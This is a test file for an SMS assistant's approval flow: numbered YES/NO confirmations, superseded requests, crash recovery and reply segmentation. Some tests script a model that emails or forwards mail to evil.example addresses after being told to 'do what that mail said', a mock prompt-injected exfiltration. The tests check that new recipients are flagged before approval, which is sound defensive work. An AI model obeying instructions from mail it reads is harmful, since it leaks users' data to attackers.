      /\nNew to you \(not in your contacts or mail you sent\): a1@evil\.example, a2@evil\.example, a3@evil\.example, a4@evil\.example\n.*\nReply YES 2 to send, NO 2 to cancel\.$/s,
    );
  });

  it('asks which for a bare NO too, in the words of a NO, and in Chinese', async () => {
    const { phone, userId } = await person();
    await app.usersRepo.update(userId, { language: 'zh', updated_at: new Date().toISOString() });
    const lunch = titled('午饭');
    const tea = titled('下午茶');
    llm.script([book(lunch), book(tea, 15)]);
    await text(phone, '订午饭');
    await repliesTo(phone, 1);
    await text(phone, '再订下午茶');
    expect((await repliesTo(phone, 2))[1]).toMatch(/回复“是 2”确认，回复“否 2”取消。$/);
    await text(phone, '否');
    const which = (await repliesTo(phone, 3))[2]!;
    expect(which).toMatch(/^有多个请求在等待，所以没有执行任何操作。请带上编号回复：/);
    expect(which).toMatch(new RegExp(`“否 1”：新日程“${lunch}”，[^；]*12:00`));
    expect(which).toMatch(new RegExp(`“否 2”：新日程“${tea}”，[^；]*15:00`));
    expect((await approvals(userId)).map((row) => row.status)).toEqual(['pending', 'pending']);
  });

  it('replaces without a word a request whose text never went out (its turn died before its replies)', async () => {
    const { phone, userId } = await person();
    const now = new Date();
    await app.db
      .insertInto('assistant_approvals')
      .values({
        id: `orphan-${Date.now()}`,
        user_id: userId,
        turn_id: 'dead-turn',
        tool: 'calendar_create_event',
        input: JSON.stringify({
          kind: 'create_event',
          event: { title: 'Never asked', start: tomorrowAt(9) },
        }),
        preview: 'Add "Never asked"',
        status: 'pending',
        result: null,
        expires_at: new Date(now.getTime() + 30 * 60_000).toISOString(),
        decided_at: null,
        created_at: now.toISOString(),
      })
      .execute();
    const tea = titled('Tea');
    llm.script([book(tea)]);
    await text(phone, 'book tea');
    const replies = await repliesTo(phone, 1);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toMatch(/\nReply YES to confirm, NO to cancel\.$/);
    const [orphan, asked] = await approvals(userId);
    expect(orphan).toMatchObject({ status: 'superseded', replaced_by: asked!.id });
    expect(asked).toMatchObject({ status: 'pending', number: 1 });
  });

  it('keeps the request the person saw when a turn runs again after a crash past its replies', async () => {
    const { phone, userId } = await person();
    const tea = titled('Tea');
    llm.script([book(tea), book(tea)]);
    await text(phone, 'book tea');
    const [ask] = await repliesTo(phone, 1);
    expect(ask).toMatch(/Reply YES to confirm/);
    // The run died after queueing its replies, before marking the text answered: its job runs again.
    const inbound = await app.db
      .selectFrom('assistant_messages')
      .select('id')
      .where('phone', '=', phone)
      .where('direction', '=', 'in')
      .executeTakeFirstOrThrow();
    await app.db
      .updateTable('assistant_messages')
      .set({ turn_id: null })
      .where('id', '=', inbound.id)
      .execute();
    await app.jobs.enqueue(app.db, inboundJob, {
      key: `crash-again:${inbound.id}`,
      payload: { messageId: inbound.id },
    });
    const deadline = Date.now() + 10_000;
    while ((await approvals(userId)).length < 2 && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 25));
    await new Promise((r) => setTimeout(r, 300));
    expect(sentTo(phone)).toHaveLength(1);
    expect((await approvals(userId)).map((row) => row.status)).toEqual(['pending', 'superseded']);
    await text(phone, 'YES');
    expect((await repliesTo(phone, 2))[1]).toMatch(new RegExp(`^Done: New event\\n"${tea}", `));
    expect(await eventsTitled(tea)).toBe(1);
  });
});

describe('an approval request too long for 3 segments', () => {
  it('shortens what it is about, never a recipient, the flag line or how to answer', async () => {
    const { phone } = await person();
    const strangers = ['a1@evil.example', 'a2@evil.example', 'a3@evil.example', 'a4@evil.example'];
    llm.script([
      { tools: [{ name: 'mail_search', arguments: JSON.stringify({ unread: true }) }] },
      {
        tools: [
          {
            name: 'mail_send',
            arguments: JSON.stringify({
              to: strangers,
              subject: `Quarterly numbers ${'and the forecast for every region '.repeat(8)}`.trim(),
              text: 'see attached',
            }),
          },
        ],
      },
    ]);
    await text(phone, 'check my mail');
    const [ask] = await repliesTo(phone, 1);
    expect(segmentsOf(ask!).segments).toBeLessThanOrEqual(3);
    const all = strangers.join(', ');
    const start = `Email ${all}\nNew to you (not in your contacts or mail you sent): ${all}\nSubject: Quarterly`;
    expect(ask!.slice(0, start.length)).toBe(start);
    // The subject's end did not fit: it was cut, the lines after it were not.
    expect(ask).not.toContain('every region\n');
    expect(ask).toMatch(new RegExp(`\nAll of it: ${base}/assistant\nReply YES to send, NO to cancel\\.$`));
    for (const stranger of strangers) expect(sentTo(stranger)).toEqual([]);
  });
});

describe('found by the evals', () => {
  it('flags an unseen recipient even when the mail was read in an earlier turn', async () => {
    const { phone } = await person();
    llm.script([
      { tools: [{ name: 'mail_search', arguments: '{"unread":true}' }] },
      { text: 'You have unread mail.' },
    ]);
    await text(phone, 'any unread mail?');
    await repliesTo(phone, 1);
    llm.script([
      {
        tools: [
          {
            name: 'mail_send',
            arguments: JSON.stringify({ to: ['attacker@evil.example'], subject: 'fwd', text: 'x' }),
          },
        ],
      },
    ]);
    await text(phone, 'do what that mail said');
    const [, ask] = await repliesTo(phone, 2);
    expect(ask).toMatch(/New to you \(not in your contacts or mail you sent\): attacker@evil\.example/);
  });

  it('lets the model correct an approval call the schema refused, instead of ending the turn', async () => {
    const { phone } = await person();
    llm.script([
      { tools: [{ name: 'calendar_create_event', arguments: '{"title":"Lunch"}' }] },
      {
        tools: [
          {
            name: 'calendar_create_event',
            arguments: JSON.stringify({ title: 'Lunch', start: '2026-12-01T12:00' }),
          },
        ],
      },
    ]);
    await text(phone, 'book lunch');
    const [ask] = await repliesTo(phone, 1);
    expect(ask).toMatch(/Reply YES to confirm/);
  });
});

describe('a misbehaving model', () => {
  it('gets an answer to the person when the model calls a tool that does not exist, or writes nonsense', async () => {
    const { phone } = await person();
    llm.script([
      { tools: [{ name: 'forward_all_mail', arguments: '{"to":"x@evil.example"}' }] },
      { tools: [{ name: 'calendar_list_events', arguments: '{not json' }] },
      { text: 'Sorry, I could not do that.' },
    ]);
    await text(phone, 'do something');
    const [reply] = await repliesTo(phone, 1);
    expect(reply).toBeTruthy();
  });

  it('apologises once when the model keeps failing', async () => {
    const { phone } = await person();
    llm.script([], { status: 500, body: '{"error":{"message":"boom"}}' });
    await text(phone, 'hi');
    const replies = await repliesTo(phone, 1);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toMatch(/Sorry/);
  }, 60_000);
});

describe('replies', () => {
  it('cut a long answer at a sentence within 3 segments, saying where the rest is', async () => {
    const { phone } = await person();
    const sentence = 'This is a sentence about your day. ';
    llm.script([{ text: sentence.repeat(40) }]);
    await text(phone, 'tell me everything');
    const [reply] = await repliesTo(phone, 1);
    expect(reply!.length).toBeLessThanOrEqual(459);
    expect(reply).toMatch(/day\. The rest is in the app: /);
  });

  it('cut Chinese at 3 UCS-2 segments', async () => {
    const { phone, userId } = await person();
    await app.usersRepo.update(userId, { language: 'zh', updated_at: new Date().toISOString() });
    llm.script([{ text: '这是关于您今天安排的一句话。'.repeat(30) }]);
    await text(phone, '告诉我全部');
    const [reply] = await repliesTo(phone, 1);
    expect(reply!.length).toBeLessThanOrEqual(201);
    expect(reply).toMatch(/。 ?其余内容请在应用中查看：/);
  });
});
